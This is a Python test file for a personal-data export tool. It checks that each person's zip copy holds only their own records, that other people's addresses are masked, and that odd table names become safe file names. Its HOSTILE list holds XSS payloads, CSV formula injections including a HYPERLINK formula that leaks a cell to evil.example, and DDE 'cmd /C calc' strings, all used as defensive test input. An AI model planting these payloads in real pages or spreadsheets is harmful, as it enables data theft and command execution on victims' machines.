"""The copy a person gets: all of what is theirs, and nothing of anybody else's. Read from the zip itself."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import warnings
import zipfile

from ground import ABOUT_US, ACCOUNT, ERASED_MAIL, MAIL, asking, pack, table, widened

from kept.engine.package import write_packages

HERS, HIS, THIRD = "alice@example.com", "bob@example.com", "carol@third.example"
TO_CUSTOMER = '{ column = "customer_id", to = "customer.id" }'
PEOPLE = table(
    "customer",
    f"{ACCOUNT}, {MAIL}",
    f'id = "key"\n{ERASED_MAIL}\nname = {{ do = "erase", is = "name" }}\n'
    'password = { do = "erase", secret = true }\nreferred = { do = "keep", third_party = true }',
    "person = true",
)


def people(place):
    place.run(
        "CREATE TABLE customer (id int PRIMARY KEY, email varchar(80), name varchar(80), password varchar(80), "
        "referred varchar(80))"
    )
    rows = ((1, HERS, "Alice Arden"), (2, HIS, "Bob Brook"))
    place.plant(
        "customer",
        *({"id": n, "email": m, "name": w, "password": f"pw-{n}", "referred": f"ref{n} {THIRD}"} for n, m, w in rows),
    )


def copies(place, connect, folder, text, *who):
    connector = connect(place, text)
    batch = widened(connector, *(asking(one, ref=f"copy{n}") for n, one in enumerate(who)))
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # zipfile warns of two files of one name
        packages = write_packages(folder, batch, [connector], ABOUT_US)
    return [Copy(package) for package in packages]


class Copy:
    """A package as a person unpacks it."""

    def __init__(self, package) -> None:
        with zipfile.ZipFile(package.path) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}
            assert len(self.parts) == len(archive.namelist())
        self.data = json.loads(self.parts["data.json"])
        self.everything = b"\n".join(self.parts.values()).decode()
        for file in json.loads(self.parts["manifest.json"])["files"]:
            assert hashlib.sha256(self.parts[file["path"]]).hexdigest() == file["sha256"]
        assert (package.path.stat().st_mode & 0o777) == 0o600

    def records(self, name):
        return [row for one in self.data["tables"] if one["table"] == name for row in one["records"]]

    def sheet(self, name):
        [file] = [one for one in self.parts if one.startswith("csv/") and one.endswith(f"/{name}.csv")]
        return list(csv.DictReader(io.StringIO(self.parts[file].decode(), newline="")))


def test_a_copy_holds_all_that_is_hers_and_nothing_that_is_not(place, connect, tmp_path):
    people(place)
    place.run("CREATE TABLE note (id int PRIMARY KEY, customer_id int, body text)")
    rows = [(n, 1 + n % 2, f"mark{n:03}-{'hers' if n % 2 == 0 else 'his'}") for n in range(60)]
    place.plant("note", *({"id": n, "customer_id": who, "body": body} for n, who, body in rows))
    note = table("note", TO_CUSTOMER, 'id = "key"\ncustomer_id = "key"\nbody = "erase"')
    alice, bob = copies(place, connect, tmp_path, pack(PEOPLE, note), HERS, HIS)
    for copy, mine, other in ((alice, "hers", "his"), (bob, "his", "hers")):
        wanted = {body for _, _, body in rows if body.endswith(mine)}
        assert {row["body"] for row in copy.records("note")} == wanted
        assert {row["body"] for row in copy.sheet("note")} == wanted
        assert all(body in copy.parts["index.html"].decode() for body in wanted)
        assert f"-{other}" not in copy.everything
    assert HIS not in alice.everything
    assert HERS not in bob.everything
    for secret in ("pw-1", "pw-2", THIRD, "ref1", "ref2"):
        assert secret not in alice.everything + bob.everything


def test_addresses_of_others_are_masked_in_documents_and_lists_too(place, connect, tmp_path):
    people(place)
    document, many = ("jsonb", "text[]") if not place.mariadb else ("json", "json")
    place.run(f"CREATE TABLE answer (id int PRIMARY KEY, about_id int, body text, meta {document}, cc {many})")
    meta = {"to": HERS, "deep": [{"cc": THIRD, "n": 1}], THIRD: True}
    cc = [THIRD, HERS, f"Carol <{THIRD}>"]
    place.plant(
        "answer",
        {
            "id": 1,
            "about_id": 1,
            "body": f"Dear {HERS}, ask {THIRD}. {THIRD.upper()}",
            "meta": json.dumps(meta),
            "cc": json.dumps(cc) if place.mariadb else cc,
        },
    )
    answer = table(
        "answer",
        '{ column = "about_id", to = "customer.id", words = "others" }',
        'id = "key"\nabout_id = "key"\nbody = "redact"\nmeta = { do = "redact", codec = "json" }\ncc = "keep"',
    )
    [copy] = copies(place, connect, tmp_path, pack(PEOPLE, answer), HERS)
    assert "third.example" not in copy.everything.lower()
    assert copy.everything.count(HERS) >= 6  # her own address is hers to have, in each part


def test_tables_whose_names_differ_only_in_signs_have_a_sheet_each(place, connect, tmp_path):
    people(place)
    names = ["user note", "user_note", "user/note", "User_note", "../note", "n" * 60 + "a", "n" * 60 + "b"]
    quote = "`" if place.mariadb else '"'
    for n, name in enumerate(names):
        place.run(f"CREATE TABLE {quote}{name}{quote} (id int PRIMARY KEY, customer_id int, body text)")
        place.plant(name, {"id": 1, "customer_id": 1, "body": f"mark{n}"})
    rules = [table(name, TO_CUSTOMER, 'id = "key"\ncustomer_id = "key"\nbody = "erase"') for name in names]
    [copy] = copies(place, connect, tmp_path, pack(PEOPLE, *rules), HERS)
    sheets = [name for name in copy.parts if name.startswith("csv/")]
    assert len({name.lower() for name in sheets}) == len(names) + 1  # some file systems know no case
    assert not [name for name in copy.parts if ".." in name.split("/") or name.startswith("/")]
    for n in range(len(names)):
        assert sum(f"mark{n}".encode() in copy.parts[name] for name in sheets) == 1


HOSTILE = [
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "</td></table></main><style>*{display:none}</style>",
    '=HYPERLINK("http://evil.example?x="&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    'quote " and, comma\r\nand line',
    "&lt;already escaped&gt;",
    "\U0001d49clice ☂ \u202eevil\u2066",
    "a" * 100_000,
]


def test_hostile_texts_stay_texts(place, connect, tmp_path):
    people(place)
    place.run("CREATE TABLE note (id int PRIMARY KEY, customer_id int, body text)")
    texts = [*HOSTILE, "nul \0 byte"] if place.mariadb else HOSTILE
    kind = "mediumtext" if place.mariadb else "text"
    place.run(
        f"ALTER TABLE note {'MODIFY' if place.mariadb else 'ALTER'} body {'' if place.mariadb else 'TYPE '}{kind}"
    )
    place.plant("note", *({"id": n, "customer_id": 1, "body": body} for n, body in enumerate(texts)))
    note = table("note", TO_CUSTOMER, 'id = "key"\ncustomer_id = "key"\nbody = "erase"')
    [copy] = copies(place, connect, tmp_path, pack(PEOPLE, note), HERS)
    assert [row["body"] for row in copy.records("note")] == texts
    page = copy.parts["index.html"].decode()
    assert "<script>" not in page
    assert "<img" not in page
    assert page.count("</main>") == 1
    for row, text in zip(copy.sheet("note"), texts, strict=True):
        assert row["body"].lstrip("'") in (text, text.replace("\0", ""))
        assert not row["body"].startswith(("=", "@", "-", "+", "\t"))


def test_a_person_of_whom_nothing_is_held_gets_a_copy_that_says_so(place, connect, tmp_path):
    people(place)
    [copy] = copies(place, connect, tmp_path, pack(PEOPLE), "nobody@example.com")
    assert copy.data["tables"] == []
    for other in (HERS, HIS, THIRD, "Alice", "Bob"):
        assert other not in copy.everything
